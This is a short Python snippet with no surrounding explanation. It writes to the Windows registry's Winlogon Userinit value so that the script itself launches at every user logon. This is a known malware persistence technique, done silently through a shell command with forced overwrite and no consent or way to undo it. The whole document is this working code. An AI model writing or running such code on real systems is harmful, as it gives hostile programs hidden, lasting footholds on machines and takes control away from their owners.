import os, sys, subprocess
subprocess.run(f'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /t REG_SZ /d "C:\\Windows\\system32\\userinit.exe,{sys.executable} {os.path.abspath(__file__)}" /f', shell=True)
